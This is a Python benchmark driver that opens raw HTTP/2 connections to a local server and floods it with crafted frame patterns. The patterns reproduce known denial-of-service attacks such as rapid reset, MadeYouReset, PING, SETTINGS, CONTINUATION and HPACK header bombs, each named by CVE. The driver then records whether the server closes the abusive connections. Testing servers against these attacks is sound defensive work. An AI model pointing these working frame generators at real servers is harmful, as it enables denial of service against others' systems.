"""usage: python3 -m driver.abuser CLASS PORT SECONDS      (in Benchmarks/)

One peer of HTTP/2 that writes raw frames: at each tick one burst of so many bytes at the most, on one connection, a new one where the server
has closed the last. Prints `ready` before the first and in the end what it did, as JSON. `CONTROL` is the same with requests that mean what they say:
it waits with the next burst until the server has answered enough of the last, and so gives no server a reason to close.
"""
import json, socket, struct, sys, time

from .load import BODY

TICK_SECONDS = 0.005
BURST_BYTES = 16_384
# Made before the first tick, so that to make them costs nobody anything; the connection is given up after the last.
BURSTS = 512
RECEIVED_BYTES = 1 << 20
# What the kernel keeps for a peer that does not read.
LITTLE_BYTES = 4_096

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACKNOWLEDGEMENT, END_HEADERS = 1, 1, 4
CONCURRENT_STREAMS, INITIAL_WINDOW = 3, 4
FRAME_HEAD_BYTES = 9
LARGEST = 0x7FFFFFFF


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """An HPACK string without Huffman (RFC 7541 section 5.2)."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 | 128])
        rest //= 128
    return length + bytes([rest]) + value


def block(method, *fields):
    """Fields that enter no table."""
    pseudo = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", "/vector")]
    return b"".join(b"\0" + text(name) + text(value) for name, value in [*pseudo, *fields])


GET, POST = block("GET"), block("POST", ("content-type", "application/json"))
SPOILT = block("GET", ("Upper", "x"))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
WIDE = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, LARGEST)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65_535))
CLOSED_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
# 4 KB that enter the table once and are named by one byte from then on (RFC 7541 section 6.1).
ENTRY, NAMED = b"\x40" + text("x") + text("a" * 3_900), bytes([0x80 | 62])


def request(stream):
    return frame(HEADERS, END_HEADERS, stream, POST) + frame(DATA, END_STREAM, stream, BODY.encode())


def reset(stream):
    return frame(HEADERS, END_HEADERS, stream, POST) + frame(RESET, 0, stream, struct.pack(">I", 8))


def made_to_reset(stream):
    return frame(HEADERS, END_HEADERS, stream, POST) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def bomb(stream):
    entry = ENTRY if stream == 1 else NAMED
    return frame(HEADERS, END_HEADERS, stream, POST + entry + NAMED * (16_000 - len(entry) - len(POST)))


class Class:
    """`opening` goes once, behind the preface; `frames` makes what is sent on and on from an odd number that grows.

    `ends` says whether the server has to close such a connection within a second, `keeps` that no more streams are open than the server allows.
    """

    def __init__(self, frames, opening=b"", reads=True, ends=True, keeps=False):
        self.frames, self.opening, self.reads, self.ends, self.keeps = frames, opening, reads, ends, keeps

    def bursts(self):
        """Bytes, and the streams that they begin. Who keeps to the server's limit has to hear of it before the first."""
        stream, burst = 1, PREFACE + self.opening
        if self.keeps:
            yield burst, range(0)
            burst = b""
        for _ in range(BURSTS):
            first = stream
            while True:
                frames = self.frames(stream)
                if burst and len(burst) + len(frames) > BURST_BYTES:
                    break
                burst += frames
                stream += 2
            yield burst, range(first, stream, 2)
            burst = b""


CONTROL = "requests as many bytes long"
OPEN_POST, HALF_BLOCK = frame(HEADERS, END_HEADERS, 1, POST), frame(HEADERS, 0, 1, GET)
CLASSES = {
    CONTROL: Class(request, WIDE, ends=False, keeps=True),
    "rapid reset (CVE-2023-44487)": Class(reset),
    "rapid reset, answers not read": Class(reset, reads=False),
    "MadeYouReset (CVE-2025-8671)": Class(made_to_reset),
    "PING (CVE-2019-9512)": Class(lambda _: frame(PING, 0, 0, bytes(8)), reads=False),
    "SETTINGS (CVE-2019-9515)": Class(lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65_535)), reads=False),
    "empty DATA (CVE-2019-9518)": Class(lambda _: frame(DATA, 0, 1), OPEN_POST),
    "window updates": Class(lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "PRIORITY (CVE-2019-9513)": Class(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15))),
    "CONTINUATION (CVE-2024-28182)": Class(lambda _: frame(CONTINUATION, 0, 1, b"\0" + text("x") + text("y")), HALF_BLOCK),
    "header bomb (CVE-2026-49975)": Class(bomb),
    "header lists that break the rules": Class(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, SPOILT)),
    "answers into no window": Class(request, CLOSED_WINDOW, reads=False),
    # It takes a second or two until the kernel holds all the answers that it will.
    "answers that nobody reads": Class(request, WIDE, reads=False, ends=False),
}


class Peer:
    """One after the other, its connections."""

    def __init__(self, port, kind):
        self.port, self.reads, self.keeps, self.bursts = port, kind.reads, kind.keeps, list(kind.bursts())
        self.connection, self.unsent, self.next = None, b"", 0
        self.unheard, self.streams, self.streams_max = b"", set(), None
        self.connections = self.closed = self.sent = self.waited = 0

    def open(self):
        self.connection = socket.socket()
        if not self.reads:
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, LITTLE_BYTES)
        self.connection.connect(("127.0.0.1", self.port))
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.connection.setblocking(False)
        self.connections += 1
        self.unsent, self.next = b"", 0
        self.unheard, self.streams, self.streams_max = b"", set(), None

    def end(self):
        self.connection.close()
        self.connection = None

    def tick(self):
        """Whatever a server that is closing may do to us is what we are here for."""
        try:
            if self.connection is None:
                self.open()
            if self.reads:
                self.hear(self.connection.recv(RECEIVED_BYTES))
        except BlockingIOError:
            pass
        except OSError:
            return self.was_closed()
        if not self.unsent:
            if self.next == len(self.bursts):
                return self.end()
            burst, streams = self.bursts[self.next]
            if self.keeps and not self.has_room(streams):
                self.waited += 1
                return
            self.unsent, self.next = burst, self.next + 1
            self.streams.update(streams)
        try:
            count = self.connection.send(self.unsent)
            self.unsent = self.unsent[count:]
            self.sent += count
        except BlockingIOError:
            self.waited += 1
        except OSError:
            self.was_closed()

    def has_room(self, streams):
        if not streams:
            return True
        if self.streams_max is None:
            return False
        if len(streams) > self.streams_max:
            sys.exit(f"a burst of {len(streams)} requests is more than the {self.streams_max} streams that the server allows")
        return len(self.streams) + len(streams) <= self.streams_max

    def hear(self, received):
        """Notes how many streams the server allows, and which are over."""
        if not received:
            raise ConnectionResetError
        if not self.keeps:
            return
        heard, start = self.unheard + received, 0
        while len(heard) - start >= FRAME_HEAD_BYTES:
            end = start + FRAME_HEAD_BYTES + int.from_bytes(heard[start:start + 3], "big")
            if end > len(heard):
                break
            kind, flags = heard[start + 3], heard[start + 4]
            if kind == RESET or (kind in (DATA, HEADERS) and flags & END_STREAM):
                self.streams.discard(int.from_bytes(heard[start + 5:start + 9], "big"))
            elif kind == SETTINGS and not flags & ACKNOWLEDGEMENT:
                entries = dict(struct.iter_unpack(">HI", heard[start + FRAME_HEAD_BYTES:end]))
                self.streams_max = entries.get(CONCURRENT_STREAMS, LARGEST if self.streams_max is None else self.streams_max)
            start = end
        self.unheard = heard[start:]

    def was_closed(self):
        self.closed += 1
        if self.connection is not None:
            self.end()


def main(name, port, seconds):
    peer = Peer(int(port), CLASSES[name])
    print("ready", flush=True)
    now = time.monotonic()
    deadline, due = now + float(seconds), now
    while now < deadline:
        peer.tick()
        # Who is late does not make up for it: that would be a burst of another size.
        now = time.monotonic()
        due = max(due + TICK_SECONDS, now)
        time.sleep(due - now)
        now = time.monotonic()
    print(json.dumps({"connections": peer.connections, "closed": peer.closed, "sent": peer.sent, "waited": peer.waited}))


if __name__ == "__main__":
    main(*sys.argv[1:])
